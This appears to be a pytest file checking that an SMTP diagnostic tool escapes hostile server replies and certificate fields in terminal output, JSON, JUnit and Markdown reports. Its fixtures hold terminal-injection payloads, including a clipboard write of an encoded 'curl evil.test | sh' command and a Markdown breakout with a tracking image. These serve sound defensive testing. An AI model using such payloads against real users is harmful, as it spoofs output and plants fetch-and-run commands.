"""Terminal and report injection: a server's reply text (or certificate field) must never reach the
terminal or a report as control characters. Each case runs the real command against a real socket whose
server answers with escape sequences, and checks what the user's terminal would receive."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET

import pytest

from smtpprobe.exitcodes import Exit
from tests.cli import smtpprobe

# A refusal that, printed raw, erases itself and shows "250 2.1.5 Ok" instead, sets the window title,
# puts a command on the clipboard (OSC 52), and reverses the rest of the line (U+202E).
EVIL = (b"554 5.7.1 Relay access denied\x1b[2K\r\x1b[1A250 2.1.5 Ok\x1b]0;pwned\x07"
        b"\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\x9b31m\xe2\x80\xaeevil\x0b\x7f")
SHOWN = r"554 5.7.1 Relay access denied\x1b[2K\r\x1b[1A250 2.1.5 Ok\x1b]0;pwned\x07"
# Anything a terminal interprets: C0 controls but LF, DEL, C1 controls, bidi overrides and isolates.
DANGEROUS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]")


def assert_clean(text: str) -> None:
    found = DANGEROUS.search(text)
    assert found is None, f"raw {found.group()!r} reached the output: {text[max(0, found.start() - 60):found.end() + 20]!r}"


def test_send_shows_a_hostile_refusal_escaped(attack_server):
    server = attack_server(replies={"RCPT": EVIL})
    run = smtpprobe("send", "--server", f"127.0.0.1:{server.port}", "--to", "a@b.test", "--from", "me@c.test",
                    "--timeout", "5")
    assert run.code == Exit.RCPT
    assert_clean(run.out + run.err)
    assert f"<** {SHOWN}" in run.out
    assert r"\u202eevil\x0b\x7f" in run.out


def test_send_json_keeps_the_raw_text(attack_server):
    server = attack_server(replies={"RCPT": EVIL})
    run = smtpprobe("send", "--server", f"127.0.0.1:{server.port}", "--to", "a@b.test", "--from", "me@c.test",
                    "--timeout", "5", "--json")
    doc = json.loads(run.out)  # valid JSON
    texts = [e["text"] for e in doc["transcript"] if e["kind"] == "received"]
    assert any("\x1b]52;c;" in t and "\u202e" in t for t in texts)


def test_run_verbose_table_and_junit_are_clean(attack_server, tmp_path):
    server = attack_server(replies={"RCPT": EVIL, "MAIL": EVIL.replace(b"554", b"550"), "XYZZY": EVIL},
                           default=EVIL.replace(b"554", b"500"))
    junit = tmp_path / "junit.xml"
    run = smtpprobe("run", "--server", f"127.0.0.1:{server.port}", "--only", "null-sender-accepted,rcpt-before-mail",
                    "--timeout", "3", "-v", "--output", str(junit), "--format", "junit")
    assert run.code in (Exit.OK, Exit.FAILED, Exit.NETWORK), run.err
    assert_clean(run.out + run.err)
    assert r"\x1b]52;c;" in run.out
    root = ET.parse(junit).getroot()  # raises on a control character
    text = ET.tostring(root, encoding="unicode")
    assert r"\x1b]52;c;" in text
    assert_clean(text.replace("\n", " "))


def test_junit_survives_every_control_character(attack_server, tmp_path):
    controls = bytes(b for b in range(1, 32) if b not in (10, 13)) + b"\x7f"
    server = attack_server(replies={"MAIL": b"550 5.5.1 " + controls + "\u2028\ufffe".encode()})
    junit = tmp_path / "junit.xml"
    run = smtpprobe("run", "--server", f"127.0.0.1:{server.port}", "--only", "null-sender-accepted",
                    "--timeout", "3", "--format", "junit", "--output", str(junit))
    assert run.code == Exit.FAILED, run.err
    [failure] = ET.parse(junit).getroot().iter("failure")
    assert r"550 5.5.1 \x01\x02" in failure.get("message")


def test_burst_table_is_clean(attack_server):
    server = attack_server(greeting=EVIL)
    run = smtpprobe("burst", "--server", f"127.0.0.1:{server.port}", "-n", "3", "--timeout", "3")
    assert_clean(run.out + run.err)
    assert r"\x1b]52;c;" in run.out


def test_repl_is_clean(attack_server):
    server = attack_server(replies={"NOOP": EVIL})
    run = smtpprobe("repl", f"127.0.0.1:{server.port}", "--timeout", "3", input="NOOP\nQUIT\n")
    assert_clean(run.out + run.err)
    assert SHOWN in run.out


@pytest.mark.parametrize("quiet", [False, True], ids=["report", "quiet"])
def test_doctor_report_is_clean_and_its_fences_hold(dns_server, attack_server, tmp_path, quiet):
    # A bare CR and a backtick run in a reply must not end the code block: else the server writes
    # headings, links and a tracking image into the report.
    breakout = (b"554 5.7.1 no\r```\r\n# Hacked\r\n![t](http://evil.test/t.png)\r\n````` x")
    server = attack_server(replies={"RCPT": breakout.replace(b"\r\n", b"\r")})
    report = tmp_path / "report.md"
    run = smtpprobe("doctor", "--resolver", dns_server.address, "--dnsbl", "bl.test", "--timeout", "5",
                    "--from", "alice@healthy.test", "--ip", "127.0.0.1", "--helo", "mail.healthy.test",
                    "--server", "127.0.0.1", "--to", "x@y.test", "--port", f"mx={server.port}",
                    "--report", str(report), *(["--quiet"] if quiet else []))
    assert "Traceback" not in run.err
    assert_clean(run.out + run.err)
    assert report.exists(), run.err
    text = report.read_text()
    assert_clean(text.replace("\n", " "))
    assert not any(line.startswith(("# Hacked", "![")) for line in text.splitlines())
    # every fence that opens a block is closed by the same fence, and nothing inside is as long
    lines = text.splitlines()
    i = 0
    while i < len(lines):
        opening = re.fullmatch(r"(`{3,})", lines[i])
        if opening:
            end = lines.index(opening.group(1), i + 1)
            assert all(not re.match(f"`{{{len(opening.group(1))},}}", line) for line in lines[i + 1:end])
            i = end
        i += 1


def _evil_cert(directory):
    """A self-signed certificate whose subject carries escape sequences. (A SAN that is not a valid DNS name
    makes the certificate parser itself fail: that is smtpprobe.tls's to handle, not the display's.)"""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "mx\x1b]0;pwned\x07\u202eevil")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName("mx.attack.test")]), critical=False)
            .sign(key, hashes.SHA256()))
    cert_path, key_path = directory / "evil.crt", directory / "evil.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    return cert_path, key_path


def test_certificate_subject_is_shown_escaped(attack_server, tmp_path):
    import ssl

    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(*_evil_cert(tmp_path))
    server = attack_server(tls_context=context)
    run = smtpprobe("send", "--server", f"127.0.0.1:{server.port}", "--tls-on-connect", "--to", "a@b.test",
                    "--from", "me@c.test", "--quit-after", "ehlo", "--timeout", "5")
    assert "Traceback" not in run.err
    assert_clean(run.out + run.err)
    assert r"TLS peer subject CN=mx\x1b]0\;pwned\x07\u202eevil" in run.out, run.out
